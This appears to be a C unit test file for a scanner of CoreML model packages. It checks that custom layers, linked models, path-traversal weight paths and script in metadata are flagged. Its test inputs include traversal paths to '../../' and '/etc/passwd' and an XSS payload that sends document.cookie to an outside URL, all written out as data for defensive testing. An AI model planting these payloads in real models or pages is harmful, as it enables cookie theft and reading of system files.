/* SPDX-License-Identifier: Apache-2.0 */
/* CoreML's models: custom classes, linked models and files outside of the package, at any depth of a pipeline. */
#include "unit/harness.h"

#include "unit/guest/scan/message.h"
#include "unit/guest/scan/scanned.h"

enum { MODEL_VERSION = 1, MODEL_DESCRIPTION = 2, MODEL_PIPELINE = 202, MODEL_CLASSIFIER = 403, MODEL_NETWORK = 500 };
enum { MODEL_PROGRAM = 502, MODEL_CUSTOM = 555, MODEL_LINKED = 556 };

static struct message model_of(uint32_t type, const struct message *inner)
{
    struct message model = {0};

    message_number(&model, MODEL_VERSION, 8);
    message_put(&model, type, inner);
    return model;
}

static struct message wrap(uint32_t field, const struct message *inner)
{
    struct message outer = {0};

    message_put(&outer, field, inner);
    return outer;
}

static bool model_is(const struct message *model, enum scan_verdict verdict, const char *rule)
{
    struct scanned scanned;

    scanned_run(model->bytes, model->size, &scanned);
    CU_ASSERT_STRING_EQUAL(scanned.summary.format, "coreml");
    return scanned_is(&scanned, verdict, rule);
}

static void test_layers(void)
{
    struct message layer = {0}, custom = {0}, network, model;

    message_text(&layer, 1, "conv");
    message_bytes(&layer, 100, "", 0);
    network = wrap(1, &layer);
    model = model_of(MODEL_NETWORK, &network);
    CU_ASSERT(model_is(&model, SCAN_ALLOWED, NULL));
    message_text(&custom, 10, "MyLayer");
    message_put(&layer, 500, &custom);
    network = wrap(1, &layer);
    model = model_of(MODEL_NETWORK, &network);
    CU_ASSERT(model_is(&model, SCAN_UNKNOWN, "coreml-custom-layer"));
    for (unsigned depth = 0; depth < 5; depth++) { /* pipelines of pipelines */
        model = wrap(1, &model);
        model = model_of(MODEL_PIPELINE, &model);
        CU_ASSERT(model_is(&model, SCAN_UNKNOWN, "coreml-custom-layer"));
    }
    model = model_of(MODEL_CLASSIFIER, &network);
    CU_ASSERT(model_is(&model, SCAN_UNKNOWN, "coreml-custom-layer"));
    model = model_of(MODEL_CUSTOM, &custom);
    CU_ASSERT(model_is(&model, SCAN_UNKNOWN, "coreml-custom-model"));
}

static bool linked_is(const char *name, enum scan_verdict verdict, const char *rule)
{
    struct message text = {0}, file, linked, model;

    message_text(&text, 1, name);
    file = wrap(1, &text);
    linked = wrap(1, &file);
    model = model_of(MODEL_LINKED, &linked);
    return model_is(&model, verdict, rule);
}

static void test_linked(void)
{
    CU_ASSERT(linked_is("other.mlmodelc", SCAN_UNKNOWN, "coreml-linked-model"));
    CU_ASSERT(linked_is("../../other.mlmodelc", SCAN_DANGEROUS, "coreml-path"));
}

static bool program_is(const char *path, enum scan_verdict verdict, const char *rule)
{
    struct message file = {0}, value, entry, operation = {0}, block, function, program, model;

    message_text(&file, 1, path);
    value = wrap(5, &file);
    entry = wrap(2, &value);
    message_text(&operation, 1, "const");
    message_put(&operation, 5, &entry);
    block = wrap(3, &operation);
    entry = wrap(2, &block);
    function = wrap(3, &entry);
    entry = wrap(2, &function);
    program = wrap(2, &entry);
    model = model_of(MODEL_PROGRAM, &program);
    return model_is(&model, verdict, rule);
}

static void test_programs(void)
{
    CU_ASSERT(program_is("@model_path/weights/weight.bin", SCAN_ALLOWED, NULL));
    CU_ASSERT(program_is("@model_path/../../weight.bin", SCAN_DANGEROUS, "coreml-path"));
    CU_ASSERT(program_is("/etc/passwd", SCAN_DANGEROUS, "coreml-path"));
}

static void test_texts(void)
{
    struct message metadata = {0}, description, model = {0}, network = {0};

    message_text(&metadata, 1, "<script>fetch('https://example.org/' + document.cookie)</script>");
    description = wrap(100, &metadata);
    message_number(&model, MODEL_VERSION, 4);
    message_put(&model, MODEL_DESCRIPTION, &description);
    message_put(&model, MODEL_NETWORK, &network);
    CU_ASSERT(model_is(&model, SCAN_DANGEROUS, "coreml-code"));
}

int main(void)
{
    static const struct harness_test tests[] = {
        {"custom layers and models", test_layers},
        {"linked models", test_linked},
        {"files of a program's weights", test_programs},
        {"texts that are code", test_texts},
    };

    return harness_run("scan-coreml", tests, HARNESS_COUNT(tests));
}
